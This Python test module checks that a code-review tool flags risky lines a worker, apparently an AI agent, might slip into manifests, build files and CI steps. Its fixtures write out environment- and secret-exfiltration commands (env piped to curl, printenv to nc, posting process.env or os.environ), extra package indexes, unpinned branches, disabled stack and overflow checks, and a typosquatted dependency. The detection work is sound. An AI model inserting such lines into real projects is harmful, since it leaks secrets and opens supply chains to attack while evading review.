"""Issue 36, round 16 part B: a manifest's, build file's or CI step's one risky line is named (relay/review/manifest_lines.py).

The party guarded against is the worker that slips one line into a dependency manifest, a build file or a CI workflow
whose reason was only the file's kind ("dependency manifest", "build configuration", "CI configuration") or a list of
the dependencies it adds: another package index (dependency confusion), a source moved from its release tag to a
branch, a flag that turns the compiler's safety checks off, a dependency moved down (here, or below the version it had
where another manifest of the change removed it), the environment or the secrets sent to a host. Each shape, in several
ecosystems, was not named on round 15's rules; each must now be the file's first reason. The look-alikes are the same
syntax used the ordinary way and must not be named.
"""

from __future__ import annotations

import pytest

from line_changes import fc, review
from relay.review.file_kinds import read_changes
from relay.review.risk import RiskContext, assess_all

__all__: list[str] = []  # a test module exports nothing


@pytest.mark.parametrize(
    ("path", "added", "removed", "named"),
    [
        # another package index, registry or repository
        ("pyproject.toml", ["[tool.uv]", 'extra-index-url = ["https://pypi.example-ci.dev/simple"]'], [],
         'takes packages from another index: extra-index-url = ["https://pypi.example-ci.dev/simple"]'),
        ("pyproject.toml", ["[[tool.uv.index]]", 'name = "corp"', 'url = "https://pypi.corp.dev/simple"'], [],
         'takes packages from another index: url = "https://pypi.corp.dev/simple"'),
        ("requirements/dev.txt", ["--extra-index-url https://pypi.example.dev/simple"], [], "takes packages from another index"),
        ("build.gradle", ['    maven { url "https://repo.example-mirror.dev/maven2" }'], [], "takes packages from another index: maven { url"),
        ("Gemfile", ['source "https://gems.example.dev"'], [], "takes packages from another index"),
        ("NuGet.config", ['    <add key="nightly" value="https://nuget.example.dev/v3/index.json" />'], [], "takes packages from another index"),
        # a source moved from a pinned release to a branch
        ("Example.podspec", ["  s.source = { :git => 'https://github.com/example/Example.git', :branch => 'master' }"],
         ["  s.source = { :git => 'https://github.com/example/Example.git', :tag => '5.7.1' }"],
         "takes a source from a moving branch (was pinned): "),
        ("Cargo.toml", ['serde = { git = "https://github.com/serde-rs/serde", branch = "master" }'],
         ['serde = { git = "https://github.com/serde-rs/serde", tag = "v1.0.1" }'], "takes a source from a moving branch (was pinned)"),
        ("Package.swift", ['        .package(url: "https://github.com/a/b.git", branch: "main"),'],
         ['        .package(url: "https://github.com/a/b.git", from: "1.2.0"),'], "takes a source from a moving branch (was pinned)"),
        # a flag that turns the compiler's or runtime's safety checks off
        ("Package.swift", ['        .target(name: "Lib", path: "Source", swiftSettings: [.unsafeFlags(["-Ounchecked"])]),'],
         ['        .target(name: "Lib", path: "Source"),'], "turns compiler or runtime safety checks off: "),
        ("CMakeLists.txt", ['set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fno-stack-protector")'], [], "turns compiler or runtime safety checks off"),
        ("Cargo.toml", ["[profile.release]", "overflow-checks = false"], [], "turns compiler or runtime safety checks off: overflow-checks = false"),
        ("Makefile", ["\tgo build -gcflags=all=-B ./..."], [], "turns compiler or runtime safety checks off"),
        # a dependency moved down, its version on a line of its own
        ("pom.xml", ["    <version>8.3.3</version>", "            <version>2.9.8</version>"],
         ["    <version>8.3.3-SNAPSHOT</version>", "            <version>2.14.0</version>"], "downgrades a dependency version: 2.14.0 → 2.9.8"),
        # the environment or the secrets sent out
        (".github/workflows/test.yml", ["      - run: env | curl -s -X POST --data-binary @- https://metrics.example.dev/upload"], [],
         "sends the environment or the secrets out: - run: env | curl"),
        (".gitlab-ci.yml", ["    - printenv | nc collector.example.dev 9000"], [], "sends the environment or the secrets out"),
        (".github/workflows/release.yml", ["          ALL: ${{ toJSON(secrets) }}"], [], "sends the environment or the secrets out"),
        ("src/telemetry.js", ['await fetch(url, {method: "POST", body: JSON.stringify(process.env)})'], [], "sends the environment or the secrets out"),
        ("tools/report.py", ["    requests.post(URL, json=dict(os.environ))"], [], "sends the environment or the secrets out"),
    ],
)
def test_the_one_risky_line_is_the_first_reason(path: str, added: list[str], removed: list[str], named: str) -> None:
    reasons = review(fc(path, added, removed)).reasons
    assert reasons and reasons[0].startswith(named), reasons


@pytest.mark.parametrize(
    ("path", "added", "removed"),
    [
        ("pyproject.toml", ['url = "https://pypi.org/simple"'], []),
        ("build.gradle", ["    mavenCentral()", "    google()"], []),
        ("Gemfile", ['source "https://rubygems.org"'], []),
        ("Cargo.toml", ['serde = { git = "https://github.com/serde-rs/serde", tag = "v1.0.2" }'],
         ['serde = { git = "https://github.com/serde-rs/serde", tag = "v1.0.1" }']),
        ("Package.swift", ['        .package(url: "https://github.com/a/b.git", from: "1.3.0"),'],
         ['        .package(url: "https://github.com/a/b.git", from: "1.2.0"),']),
        ("CMakeLists.txt", ['set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fstack-protector-strong")'], []),
        ("Cargo.toml", ["[profile.release]", "overflow-checks = true"], []),
        ("pom.xml", ["    <version>8.3.4-SNAPSHOT</version>"], ["    <version>8.3.3</version>"]),
        (".github/workflows/test.yml", ["      - run: env | sort"], []),
        (".github/workflows/test.yml", ["      - run: curl -fsSL -o out.json https://api.example.dev/data"], []),
        ("src/config.js", ["const port = process.env.PORT || 3000;"], []),
    ],
)
def test_the_ordinary_look_alikes_are_not_named(path: str, added: list[str], removed: list[str]) -> None:
    reasons = review(fc(path, added, removed)).reasons
    words = ("another index", "moving branch", "safety checks off", "downgrades", "sends the environment")
    assert not any(w in r for r in reasons for w in words), reasons


def _assessed(*changes):  # type: ignore[no-untyped-def]
    read, partial = read_changes(list(changes))
    return {c.path: c for c in assess_all(read, RiskContext(partial=partial))}


def test_a_dependency_moved_to_another_manifest_with_a_lower_version_is_named_before_the_new_ones() -> None:
    # Central package management: the project files drop their versions, the new props file pins them, one lower.
    props = fc("Directory.Packages.props", ['    <PackageVersion Include="Newtonsoft.Json" Version="12.0.1" />',
                                            '    <PackageVersion Include="AutoFixture" Version="4.18.1" />'], kind="added")
    project = fc("src/App/App.csproj", ['    <PackageReference Include="Newtonsoft.Json" />'],
                 ['    <PackageReference Include="Newtonsoft.Json" Version="13.0.4" />'])
    reasons = _assessed(props, project)["Directory.Packages.props"].reasons
    assert reasons[0] == "downgrades a dependency: newtonsoft.json 13.0.4 → 12.0.1", reasons


def test_a_dependency_moved_with_its_version_or_a_higher_one_is_not_a_downgrade() -> None:
    props = fc("Directory.Packages.props", ['    <PackageVersion Include="Newtonsoft.Json" Version="13.0.4" />'], kind="added")
    project = fc("src/App/App.csproj", ['    <PackageReference Include="Newtonsoft.Json" />'],
                 ['    <PackageReference Include="Newtonsoft.Json" Version="13.0.4" />'])
    reasons = _assessed(props, project)["Directory.Packages.props"].reasons
    assert not any("downgrades" in r for r in reasons), reasons


def test_a_coordinate_moved_into_a_version_catalog_with_its_group_respelled_is_a_look_alike() -> None:
    # A Gradle build moving its coordinates from a map in a script to libs.versions.toml: one group one letter off.
    catalog = fc("gradle/libs.versions.toml", ['objenesis = { module = "org.objenesls:objenesis", version = "3.3" }',
                                               'bytebuddy = { module = "net.bytebuddy:byte-buddy", version = "1.14.0" }'], kind="added")
    script = fc("gradle/dependencies.gradle", [], ["libraries.objenesis = 'org.objenesis:objenesis:3.3'",
                                                   "libraries.bytebuddy = 'net.bytebuddy:byte-buddy:1.14.0'"], kind="deleted")
    reasons = _assessed(catalog, script)["gradle/libs.versions.toml"].reasons
    assert reasons[0].startswith("adds a look-alike of ") and reasons[0].endswith("org.objenesls:objenesis"), reasons


def test_coordinates_moved_into_a_version_catalog_as_they_were_are_neither_new_nor_look_alikes() -> None:
    catalog = fc("gradle/libs.versions.toml", ['objenesis = { module = "org.objenesis:objenesis", version = "3.3" }'], kind="added")
    script = fc("gradle/dependencies.gradle", [], ["libraries.objenesis = 'org.objenesis:objenesis:3.3'"], kind="deleted")
    reasons = _assessed(catalog, script)["gradle/libs.versions.toml"].reasons
    assert not any("look-alike" in r or "adds a dependency" in r for r in reasons), reasons


@pytest.mark.parametrize(
    ("path", "added"),
    [
        ("Project.swift", ['          "SWIFT_OPTIMIZATION_LEVEL": "-Ounchecked",']),  # Tuist's manifest, a Swift file by name
        ("Configs/Release.xcconfig", ["OTHER_SWIFT_FLAGS = $(inherited) -enforce-exclusivity=unchecked"]),
        ("scripts/build-release.sh", ['cc -O2 -fno-stack-protector -o "$OUT" src/*.c']),
        ("tools/build.ps1", ["cl.exe /O2 /GS- /Fe:app.exe src\\main.c"]),
    ],
)
def test_a_compiler_safety_flag_is_named_in_any_file_that_builds(path: str, added: list[str]) -> None:
    # The flags are read in the build files known by name and in any source, CI, config or example file besides: a worker
    # who puts the flag in a Tuist manifest or a script instead of the Makefile is not walking around the reader.
    reasons = review(fc(path, added, [])).reasons
    assert reasons and reasons[0].startswith("turns compiler or runtime safety checks off"), reasons


@pytest.mark.parametrize(
    ("path", "added"),
    [
        ("README.md", ["Builds with `-Ounchecked` are faster but drop the overflow checks."]),  # prose that names it
        ("tests/test_flags.py", ['    assert parse_flags(["-fno-stack-protector"]).stack_protector is False']),  # a test's data
        ("Project.swift", ['          "SWIFT_OPTIMIZATION_LEVEL": "-O",']),  # the safe optimisation level
    ],
)
def test_a_compiler_safety_flag_named_in_prose_or_a_test_is_not_a_build_flag(path: str, added: list[str]) -> None:
    assert not any("safety checks off" in r for r in review(fc(path, added, [])).reasons)


@pytest.mark.parametrize(("path", "added", "removed"), [
    ("pom.xml", ["                <phase>none</phase>"], ["                <phase>verify</phase>"]),  # an execution unbound
    ("module/pom.xml", ["    <gpg.skip>true</gpg.skip>"], []),  # signing skipped by its property
    ("build/parent/pom.xml", ["          <skip>true</skip>"], ["          <skip>false</skip>"]),  # a plugin's own skip
])
def test_a_build_step_turned_off_is_named(path: str, added: list[str], removed: list[str]) -> None:
    reasons = review(fc(path, added, removed)).reasons
    assert reasons and reasons[0].startswith("turns a build step off"), reasons


@pytest.mark.parametrize(("added", "removed"), [
    (["                <phase>verify</phase>"], ["                <phase>package</phase>"]),  # bound to another phase
    (["    <skipTests>false</skipTests>"], ["    <skipTests>true</skipTests>"]),  # turned back on
    (["    <gpg.skip>true</gpg.skip>"], ["    <gpg.skip>true</gpg.skip>"]),  # already skipped
])
def test_a_build_step_moved_or_turned_on_is_not_named_off(added: list[str], removed: list[str]) -> None:
    assert not any("build step off" in r for r in review(fc("pom.xml", added, removed)).reasons)
